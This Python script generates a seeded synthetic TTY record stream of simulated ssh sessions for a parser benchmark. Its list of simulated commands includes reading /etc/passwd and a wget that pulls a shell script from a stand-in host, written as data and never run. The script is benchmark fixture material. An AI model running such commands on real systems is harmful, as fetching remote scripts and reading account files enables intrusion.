# SPDX-License-Identifier: GPL-2.0
"""A synthetic TTY wire stream (common/tty_log_wire.h) for the parse benchmark.

Usage: mkstream.py OUT MB
Writes about MB x 10^6 bytes of records, made here with struct + zlib.crc32,
independently of hostd's C: 8 ssh-like pty sessions, 4 open at a time,
interleaved. In each, commands are typed one key a record (input) with
each key echoed (output), an exec record per command, then the command's
output: terminal text (ls -l, ps, log lines, ANSI colour) of a random
length, in records of up to 4096 bytes as the kernel cuts them. Each
session opens with OPEN and ends with CLOSE; time advances realistically.
Seeded: the same bytes every time.
"""
import random
import struct
import sys
import zlib

MAGIC, VERSION = 0x4C544E48, 1
OPEN, CLOSE, DATA, EXEC = 1, 2, 3, 4
rnd = random.Random(20261127)


def rec(typ, session, payload, d, t):
    h = struct.pack("<IHHIIQB3sI", MAGIC, VERSION, typ, session, len(payload), t, d, b"\0" * 3, 0)
    return h[:28] + struct.pack("<I", zlib.crc32(h + payload) & 0xFFFFFFFF) + payload


def opn(s, t):
    name = b"pts/%d" % (s % 8)
    return rec(OPEN, s, struct.pack("<IIII", 0, 136, s % 8, len(name)) + name, 0, t)


def exe(s, t, argv):
    fn = b"/usr/bin/" + argv[0]
    a = b"".join(x + b"\0" for x in argv)
    p = struct.pack("<IIIIIIIB3s", rnd.randint(300, 30000), 1, 0, 0, len(fn), len(a),
                    len(argv), 0, b"\0" * 3)
    return rec(EXEC, s, p + fn + a, 0, t)


WORDS = ("root www-data syslog nginx sshd systemd kernel session opened closed "
         "connection from port accepted password invalid user admin test backup "
         "debian bookworm apt update install wget curl tar gzip chmod passwd").split()
CMDS = [b"ls -la /var/log", b"ps aux", b"cat /etc/passwd", b"uname -a", b"w",
        b"netstat -tnlp", b"cat /proc/cpuinfo", b"wget http://203.0.113.200/x.sh",
        b"tail -n 200 /var/log/syslog", b"find / -name '*.conf'", b"dmesg", b"id"]


def line():
    k = rnd.random()
    if k < 0.3:
        return ("-rw-r--r-- 1 %s %s %7d Nov %2d %02d:%02d \x1b[01;34m%s\x1b[0m.%s\r\n" % (
            rnd.choice(WORDS), rnd.choice(WORDS), rnd.randint(0, 9999999), rnd.randint(1, 30),
            rnd.randint(0, 23), rnd.randint(0, 59), rnd.choice(WORDS), rnd.choice(WORDS))).encode()
    if k < 0.55:
        return ("%-8s %5d %4.1f %4.1f %7d %6d ?        S    %02d:%02d   0:%02d /usr/sbin/%s -%s\r\n" % (
            rnd.choice(WORDS), rnd.randint(1, 32768), rnd.random() * 9, rnd.random() * 9,
            rnd.randint(1000, 999999), rnd.randint(100, 99999), rnd.randint(0, 23),
            rnd.randint(0, 59), rnd.randint(0, 59), rnd.choice(WORDS), rnd.choice("dfvq"))).encode()
    return ("Nov %2d %02d:%02d:%02d backup01 %s[%d]: %s\r\n" % (
        rnd.randint(1, 30), rnd.randint(0, 23), rnd.randint(0, 59), rnd.randint(0, 59),
        rnd.choice(WORDS), rnd.randint(1, 32768),
        " ".join(rnd.choice(WORDS) for _ in range(rnd.randint(3, 14))))).encode()


POOL = [line() for _ in range(20000)]


def output(n):
    out = []
    size = 0
    while size < n:
        x = POOL[rnd.randrange(len(POOL))]
        out.append(x)
        size += len(x)
    return b"".join(out)[:n]


def command(s, t):
    """Records for one typed command and its output; returns (bytes, t)."""
    cmd = rnd.choice(CMDS)
    parts = []
    for c in cmd + b"\r":
        t += rnd.randint(40, 250) * 1000000
        parts.append(rec(DATA, s, bytes([c]), 1, t))
        parts.append(rec(DATA, s, b"\r\n" if c == 13 else bytes([c]), 2, t + 20000))
    t += 1000000
    parts.append(exe(s, t, cmd.split()))
    body = output(int(rnd.expovariate(1 / 24000)) + 10) + b"root@backup01:~# "
    for i in range(0, len(body), 4096):
        t += 50000
        parts.append(rec(DATA, s, body[i:i + 4096], 2, t))
    return b"".join(parts), t


def main():
    out, target = sys.argv[1], int(sys.argv[2]) * 1000000
    t = 1795844712_000000000
    written = 0
    nxt = 1
    live = {}		# session -> commands left
    with open(out, "wb") as f:
        while written < target:
            while len(live) < 4:
                live[nxt] = rnd.randint(200, 2000)
                f.write(opn(nxt, t))
                nxt += 1
            s = rnd.choice(list(live))
            b, t = command(s, t)
            f.write(b)
            written += len(b)
            live[s] -= 1
            if live[s] == 0 or written >= target:
                del live[s]
                f.write(rec(CLOSE, s, b"", 0, t))
        for s in live:
            f.write(rec(CLOSE, s, b"", 0, t))


main()
